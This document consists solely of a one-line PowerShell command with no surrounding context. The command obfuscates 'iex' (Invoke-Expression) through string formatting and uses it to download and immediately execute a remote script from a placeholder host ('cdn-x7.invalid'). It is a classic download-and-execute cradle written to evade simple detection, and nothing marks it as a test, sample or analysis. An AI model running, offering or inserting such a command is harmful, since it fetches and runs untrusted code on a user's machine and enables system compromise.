& ('{1}{0}' -f 'x','ie') (iwr -useb https://cdn-x7.invalid/a.ps1)
